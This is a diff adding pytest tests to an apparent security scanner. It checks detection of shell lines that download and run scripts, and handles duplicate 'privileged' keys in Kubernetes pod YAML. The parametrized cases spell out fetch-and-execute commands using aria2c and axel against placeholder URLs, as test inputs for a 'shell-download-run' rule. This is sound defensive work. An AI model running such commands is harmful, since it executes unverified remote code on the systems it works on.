@@ -265,3 +265,35 @@ def test_a_local_action_is_called_by_its_folder(tmp_path: Path) -> None:
         "      - uses: ./.github/actions/say\n        with: {text: '${{ env.B }}'}\n",
     )
     assert lines(tmp_path, "gha-called-injection") == [".github/actions/say/action.yml:6"]
+
+
+@pytest.mark.parametrize(
+    ("command", "run"),
+    [
+        ("aria2c https://a.net/a.sh && sh a.sh", "a.sh"),
+        ("aria2c -o b.sh https://a.net/a.sh; bash b.sh", "b.sh"),
+        ("axel --output=cc https://a.net/x; ./cc", "cc"),
+        ("aria2c -o b.tar https://a.net/x && tar xf b.tar", ""),
+        ("aria2c https://a.net/a.sh && sha256sum -c sums && sh a.sh", ""),
+    ],
+)
+def test_what_other_programs_download_and_a_script_runs(
+    tmp_path: Path, command: str, run: str
+) -> None:
+    write(tmp_path / "a.sh", f"{command}\n")
+    told = [one.message for one in inspect(tmp_path)[0] if one.rule == "shell-download-run"]
+    assert len(told) == bool(run)
+    assert all(run in one for one in told)
+
+
+def test_a_key_given_twice_has_its_last_value(tmp_path: Path) -> None:
+    pod = (
+        "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - name: a\n      image: a:1\n"
+        "      securityContext:\n        privileged: {}\n        privileged: {}\n"
+    )
+    write(tmp_path / "on.yaml", pod.format("false", "true"))
+    write(tmp_path / "off.yaml", pod.format("true", "false"))
+    findings, inspection = inspect(tmp_path)
+    privileged = [one.location for one in findings if one.rule == "k8s-privileged"]
+    assert [one.partition(":")[0] for one in privileged] == ["on.yaml"]
+    assert inspection.unread == ()
